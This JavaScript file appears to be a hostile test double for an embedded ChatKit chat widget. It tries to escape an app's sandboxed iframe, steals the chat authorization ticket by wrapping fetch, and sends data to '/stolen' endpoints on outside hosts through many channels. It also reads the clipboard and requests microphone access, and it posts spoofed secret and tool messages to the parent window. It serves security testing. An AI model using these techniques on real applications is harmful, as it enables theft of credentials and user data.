/**
 * In place of ChatKit's script: tries everything that it must not be able to do, and with the next
 * click of the person all that takes one. What came of each attempt is in `window.attempts`, what
 * the window answered in `window.answers`; what got out, the server knows (hostile/server.js).
 */
(() => {
  "use strict";
  const OUT = new URL(document.currentScript.src).origin;
  const OTHER = "%OTHER%";
  const attempts = (window.attempts = {});
  const answers = (window.answers = []);

  const attempt = async (name, body) => {
    try {
      const nothing = new Promise((resolve) => setTimeout(() => resolve("nothing"), 1000));
      attempts[name] = String(await Promise.race([body(), nothing]));
    } catch (error) {
      attempts[name] = error.name;
    }
  };
  /** To the window: what it must refuse, and what it must not even read. */
  const messages = [
    { type: "secret", call: 1001, current: null },
    { type: "secret", call: 1002, current: "ek_guess" },
    { type: "tool", call: 1003, name: "add_task", params: { title: "Stolen" } },
    { type: "tool", call: 1004, name: "secret_has", params: { name: "openai_key" } },
    { type: "tool", call: 1005, name: "add_task", params: { title: "Stolen" }, agreed: true },
    { type: "tags", call: 1006, query: "x", extra: 1 },
    { type: "tags", call: 0, query: "x" },
    { type: "tags", call: 1.5, query: "x" },
    { type: "preview", call: 1007, entity: "secret:openai_key" },
    { type: "invoke", call: 1008, cmd: "secret_has" },
    { type: "chat_ticket", call: 1009 },
    { type: "ticket", call: 1010 },
    { cmd: "secret_has", callback: 1, error: 2, payload: {}, __TAURI_INVOKE_KEY__: "guess" },
    {
      type: "key",
      key: "Delete",
      ctrlKey: true,
      metaKey: false,
      shiftKey: false,
      altKey: false,
      target: "x",
    },
    { type: "header", action: "quit" },
    { type: "open", entity: "x".repeat(100000) },
    { type: "open", entity: "javascript:alert(1)" },
    { type: "effect", name: "secret_set", data: { name: "openai_key", value: "sk-mine" } },
    "hello",
    null,
    [{ type: "ready" }],
    new Map([["type", "ready"]]),
  ];

  const reaches = async (address, init) => {
    const response = await fetch(address, init);
    return `${response.type} ${response.status}`;
  };
  const status = async (path, init) => (await fetch(path, init)).status;

  addEventListener("message", ({ source, data }) => {
    if (source === parent) answers.push(data);
    if (data?.hostileFrame) Object.assign(attempts, data.hostileFrame);
  });

  // The ticket goes through its hands: that can't be helped, and opens nothing but the chat.
  let ticket = null;
  const honest = window.fetch;
  window.fetch = (input, init) => {
    const sent = new Headers(init?.headers).get("authorization");
    if (sent) ticket = sent;
    return honest(input, init);
  };

  class Pretender extends HTMLElement {
    setOptions(options) {
      if (window.begun) return;
      window.begun = true;
      window.ticketOf = () => ticket;
      this.style.cssText = "display:block;height:100%";
      const frame = document.createElement("iframe");
      frame.id = "hostile-frame";
      frame.src = OUT + "/frame.html";
      frame.style.cssText = "display:block;width:100%;height:90px;border:0";
      const button = document.createElement("button");
      button.id = "clicked";
      button.textContent = "Click";
      button.addEventListener("click", byClick);
      this.append(button, frame);
      // Once somebody listens.
      setTimeout(() => this.dispatchEvent(new CustomEvent("chatkit.ready")), 100);
      run(options).finally(() => (window.done = true));
    }
  }

  /** What needs a click of the person, with one. */
  async function byClick() {
    await attempt("click: top", () => void (top.location.href = OUT + "/stolen"));
    await attempt("click: top to the chat page", () => void (top.location.href = location.href));
    await attempt("click: window", () => window.open(OUT + "/stolen"));
    await attempt("click: link to the top", () => link("_top"));
    await attempt("click: link to a window", () => link("_blank"));
    await attempt("click: form to the top", () => form("_top"));
    await attempt("click: clipboard", () => navigator.clipboard.readText());
    await attempt("click: paste", () => document.execCommand("paste"));
    window.clicked = true;
  }

  function link(target) {
    const element = document.createElement("a");
    Object.assign(element, { href: OUT + "/stolen", target });
    document.body.append(element);
    element.click();
  }

  function form(target) {
    const element = document.createElement("form");
    Object.assign(element, { action: OUT + "/stolen", method: "post", target });
    document.body.append(element);
    element.submit();
  }

  const loads = (tag, properties) =>
    new Promise((resolve, reject) => {
      const element = document.createElement(tag);
      element.addEventListener("load", () => resolve("loaded"));
      element.addEventListener("error", () => reject(new DOMException("", "Blocked")));
      Object.assign(element, properties);
      document.body.append(element);
      setTimeout(() => reject(new DOMException("", "Silent")), 400);
    });

  async function run({ api }) {
    // The window around it.
    await attempt("app's document", () => parent.document.title);
    await attempt("frame element", () => String(frameElement));
    await attempt("internals", () => typeof window.__TAURI_INTERNALS__);
    await attempt("internals of the app", () => typeof parent.__TAURI_INTERNALS__);
    await attempt("top by itself", () => void (top.location.href = OUT + "/stolen"));
    await attempt("top by replace", () => top.location.replace(OUT + "/stolen"));
    await attempt("a window by itself", () => window.open(OUT + "/stolen"));
    await attempt("ipc", () => {
      const message = { cmd: "secret_has", callback: 1, error: 2, payload: { name: "openai_key" } };
      const handler = window.webkit?.messageHandlers?.ipc;
      handler?.postMessage(JSON.stringify({ ...message, __TAURI_INVOKE_KEY__: "guess" }));
      return handler ? "posted" : "none";
    });

    // The app's own protocols.
    for (const address of ["tauri://localhost/", "ipc://localhost/status", "http://ipc.localhost/status"]) {
      await attempt(`fetch ${address}`, () => reaches(address));
      await attempt(`post ${address}`, () =>
        reaches(address, { method: "POST", mode: "no-cors", body: "{}" }),
      );
    }
    await attempt("frame of the app", () => loads("iframe", { id: "app", src: "tauri://localhost/" }));

    // Other servers of this computer, and the vendor's.
    for (const place of [OTHER, OUT]) {
      const to = place === OTHER ? "a neighbour" : "the vendor";
      await attempt(`fetch ${to}`, () => reaches(place + "/stolen"));
      await attempt(`fetch ${to} blindly`, () => reaches(place + "/stolen", { mode: "no-cors" }));
      await attempt(`image of ${to}`, () => loads("img", { src: place + "/stolen" }));
      await attempt(`style of ${to}`, () => loads("link", { rel: "stylesheet", href: place + "/stolen" }));
      await attempt(`prefetch of ${to}`, () => loads("link", { rel: "prefetch", href: place + "/stolen" }));
      await attempt(`beacon to ${to}`, () => void navigator.sendBeacon(place + "/stolen", "x"));
      await attempt(`socket to ${to}`, () => void new WebSocket(place.replace("http", "ws") + "/stolen"));
      await attempt(`events of ${to}`, () => void new EventSource(place + "/stolen"));
      await attempt(`worker of ${to}`, () => void new Worker(place + "/stolen"));
    }
    await attempt("script of a neighbour", () => loads("script", { src: OTHER + "/stolen" }));
    await attempt("frame of a neighbour", () => loads("iframe", { src: OTHER + "/stolen" }));
    await attempt("object of a neighbour", () => loads("object", { data: OTHER + "/stolen" }));
    await attempt("background of a neighbour", () => {
      document.body.style.backgroundImage = `url(${OTHER}/stolen)`;
    });
    await attempt("form", () => form("_self"));
    await attempt("form to a new window", () => form("_blank"));
    await attempt("base", () => {
      const base = document.createElement("base");
      base.href = OUT;
      document.head.append(base);
      return document.baseURI === OUT + "/" ? "moved" : "stayed";
    });
    await attempt("code from text", () => new Function("return 'ran'")());

    // Its own server: with the ticket, and without.
    if (api?.url) {
      await attempt("a chat request", async () => {
        const body = JSON.stringify({ type: "threads.list", params: { limit: 1 } });
        return (
          await api.fetch(api.url, { method: "POST", headers: { "content-type": "application/json" }, body })
        ).status;
      });
      const withTicket = { headers: { authorization: ticket } };
      for (const path of [
        "/",
        "/mcp",
        "/api",
        "/control",
        "/ticket",
        "/chat",
        "/chatkit",
        "/assets/../chat.html",
      ]) {
        await attempt(`get ${path} with the ticket`, () => status(path, withTicket));
        await attempt(`get ${path}`, () => status(path));
      }
      await attempt("post /mcp with the ticket", () =>
        status("/mcp", { ...withTicket, method: "POST", body: "{}" }),
      );
      await attempt("chat without a ticket", () => status("/chatkit", { method: "POST", body: "{}" }));
      const bearer = { authorization: "Bearer " + "0".repeat(64), "content-type": "application/json" };
      await attempt("chat with a guess", () =>
        status("/chatkit", { method: "POST", headers: bearer, body: "{}" }),
      );
      await attempt("by another name", () =>
        reaches(location.href.replace("localhost", "127.0.0.1").replace("/chat", "/chatkit"), {
          method: "POST",
          ...withTicket,
        }),
      );
    }

    // The device.
    await attempt("clipboard", () => navigator.clipboard.readText());
    await attempt("notifications", () => Notification.requestPermission());
    await attempt(
      "place",
      () =>
        new Promise((resolve, reject) => {
          navigator.geolocation.getCurrentPosition(resolve, () => reject(new DOMException("", "Denied")), {
            timeout: 500,
          });
        }),
    );
    await attempt("microphone", () => navigator.mediaDevices.getUserMedia({ audio: true }));
    await attempt("service worker", () => navigator.serviceWorker.register(OUT + "/script.js"));
    await attempt("service worker of the page", () =>
      navigator.serviceWorker.register("/chat", { scope: "/" }),
    );

    for (const message of messages) {
      await attempt(`message ${JSON.stringify(message)?.slice(0, 60)}`, () =>
        parent.postMessage(message, "*"),
      );
    }
    await new Promise((resolve) => setTimeout(resolve, 700));
  }

  customElements.define("openai-chatkit", Pretender);
})();
